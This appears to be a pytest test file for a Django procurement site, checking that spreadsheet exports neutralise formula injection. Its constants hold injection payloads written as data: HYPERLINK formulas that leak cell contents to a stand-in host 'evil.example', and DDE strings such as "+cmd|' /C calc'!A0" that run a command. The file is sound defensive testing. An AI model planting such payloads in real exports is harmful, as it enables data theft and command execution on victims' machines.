"""Formula injection (issue 19): a demand, a solution, a provider and an award whose texts begin like a
spreadsheet formula are exported through every spreadsheet the site writes, in every format each offers,
and read back: in .xlsx no cell is a formula and each text is there as typed; in .csv each such text is
neutralised with a leading apostrophe, and the sheet imports back as it was. (No sheet shows a solution's
own texts; the solution is the contract's, whose number and provider the finance bureau's sheet shows.)"""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.core.management import call_command

from innochallenge.accounts.enums import Role
from innochallenge.contracts import services as contracts
from innochallenge.contracts import subsidies
from innochallenge.demands.enums import DemandStatus
from innochallenge.demands.io.sheets import read_sheet
from innochallenge.solutions.enums import SolutionStatus
from tests.factories.accounts import OrganisationFactory, UserFactory
from tests.factories.demands import DESCRIPTION_50, DemandFactory
from tests.factories.judging import RoundFactory, judge
from tests.factories.solutions import ProviderProfileFactory, SolutionFactory

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
TITLE_EN = '=HYPERLINK("http://evil.example/","Click")'
COMPANY = "+cmd|' /C calc'!A0"
ENTERPRISE = "@SUM(1+1)*cmd|' /C calc'!A0"
CONTACT = "-2+3+cmd|' /C calc'!A0"
PROFILE = "\t=1+1 专注于高分子功能薄膜"
DESCRIPTION = "\r=2+2 " + DESCRIPTION_50
PROVIDER = '=HYPERLINK("http://evil.example/p","供应商")'
SOLUTION = "=1+2 交联聚酰亚胺"
CONTRACT_NUMBER = "-1+1"
AWARD = "=3+4 最佳解决方案奖"
AWARD_EN = "=3+4 Best solution"
JUDGE = "=5+6"
#: Every text the attacker typed, and where it must come back unchanged.
DEMAND_TEXTS = {TITLE, COMPANY, CONTACT, PROFILE, DESCRIPTION}


@pytest.fixture
def planted(hs2021, organiser, time_machine):
    """A published demand, a verified provider's solution to it, a contract with an approved subsidy and
    an award category, each with texts that look like formulas."""
    time_machine.move_to(dt.datetime(2021, 9, 15, 12, 0, tzinfo=dt.UTC))
    owner = UserFactory(role=Role.ENTERPRISE, organisation=OrganisationFactory(name=ENTERPRISE))
    demand = DemandFactory(
        status=DemandStatus.PUBLISHED,
        created_by=owner,
        title=TITLE,
        company_name=COMPANY,
        contact_name=CONTACT,
        company_profile=PROFILE,
        description=DESCRIPTION,
        publication__title_en=TITLE_EN,
    )
    lab = OrganisationFactory(kind="provider", name=PROVIDER)
    provider = UserFactory(role=Role.PROVIDER, organisation=lab)
    ProviderProfileFactory(organisation=provider.organisation)
    solution = SolutionFactory(
        demand=demand, created_by=provider, status=SolutionStatus.SUBMITTED, title=SOLUTION
    )
    contract = contracts.register_contract(
        hs2021,
        demand=demand,
        solution=solution,
        number=CONTRACT_NUMBER,
        amount_yuan="2000000",
        signed_on=dt.date(2021, 9, 1),
        by=organiser,
    )
    contracts.add_payment(contract, amount_yuan="100000", paid_on=dt.date(2021, 9, 1), by=owner)
    application = subsidies.apply(contract, by=owner)
    subsidies.set_state(application, "under_review", by=organiser)
    subsidies.set_state(application, "approved", by=organiser)
    hs2021.award_categories.filter(pk=hs2021.award_categories.first().pk).update(name=AWARD, name_en=AWARD_EN)
    return demand


def _xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_not_formula(content: bytes, texts: set[str]) -> None:
    cells = _xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert texts <= values, texts - values


def test_the_demand_export_writes_texts_as_texts_in_xlsx_and_csv(planted, organiser, client_of):
    client = client_of(organiser)

    xlsx = client.get("/demands/export/?format=xlsx&campaign=hs2021")
    csv_file = client.get("/demands/export/?format=csv&campaign=hs2021")

    assert (xlsx.status_code, csv_file.status_code) == (200, 200)
    _assert_text_not_formula(xlsx.content, DEMAND_TEXTS)
    rows = list(csv.reader(io.StringIO(csv_file.content.decode("utf-8-sig"))))
    cells = {cell for row in rows for cell in row}
    assert {f"'{text}" for text in DEMAND_TEXTS} <= cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_demand_csv_imports_back_as_it_was_typed(planted, organiser, client_of):
    content = client_of(organiser).get("/demands/export/?format=csv&campaign=hs2021").content

    [(_row, raw)] = read_sheet(content, "demands.csv")

    assert (raw["title"], raw["company_name"], raw["contact_name"]) == (TITLE, COMPANY, CONTACT)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_export_command_neutralises_formulas(planted, tmp_path, fmt):
    path = tmp_path / f"demands.{fmt}"

    call_command("export_demands", format=fmt, output=str(path), campaign="hs2021")

    if fmt == "xlsx":
        _assert_text_not_formula(path.read_bytes(), DEMAND_TEXTS)
    else:
        text = path.read_bytes().decode("utf-8-sig")
        cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
        assert f"'{TITLE}" in cells and TITLE not in cells


@pytest.mark.parametrize(("lang", "title"), [("zh", TITLE), ("en", TITLE_EN)])
def test_the_public_xlsx_feed_holds_no_formula(planted, client, lang, title):
    response = client.get(f"/feeds/all.xlsx?lang={lang}")

    assert response.status_code == 200
    _assert_text_not_formula(response.content, {title})


def test_the_finance_bureaus_subsidy_sheet_holds_no_formula(planted, organiser, client_of):
    response = client_of(organiser).get("/awards/subsidies/approved.xlsx")

    assert response.status_code == 200
    _assert_text_not_formula(response.content, {ENTERPRISE, PROVIDER, CONTRACT_NUMBER})
    demand_cells = [c for c in _xlsx_cells(response.content) if TITLE in str(c.value)]
    assert demand_cells and all(c.data_type == "s" for c in demand_cells)


@pytest.mark.parametrize(("lang", "award"), [("zh-hans", AWARD), ("en", AWARD_EN)])
def test_the_award_report_holds_no_formula(planted, organiser, client_of, lang, award):
    response = client_of(organiser).get("/reports/awards.xlsx?campaign=hs2021", HTTP_ACCEPT_LANGUAGE=lang)

    assert response.status_code == 200
    _assert_text_not_formula(response.content, {award})


def test_the_score_sheet_template_holds_no_formula(planted, organiser, client_of):
    panel = [judge(user__first_name=JUDGE), judge(), judge()]
    session = RoundFactory(entries=[planted], judges=panel)

    response = client_of(organiser).get(f"/judging/{session.pk}/upload/?template=1")

    assert response.status_code == 200
    _assert_text_not_formula(response.content, {JUDGE})


def test_a_control_character_does_not_break_the_xlsx_exports(hs2021, organiser, client_of):
    # Control characters a Word paste carries (a NUL never reaches an export: PostgreSQL refuses to store
    # it and Django's forms refuse it as input).
    DemandFactory(
        status=DemandStatus.PUBLISHED, title="耐高温\x0b薄膜", publication__title_en="Film\x08 A\x1f"
    )
    client = client_of(organiser)

    export = client.get("/demands/export/?format=xlsx&campaign=hs2021")
    zh, en = client.get("/feeds/all.xlsx"), client.get("/feeds/all.xlsx?lang=en")

    assert (export.status_code, zh.status_code, en.status_code) == (200, 200, 200)
    assert "耐高温薄膜" in {c.value for c in _xlsx_cells(export.content)}
    assert "Film A" in {c.value for c in _xlsx_cells(en.content)}
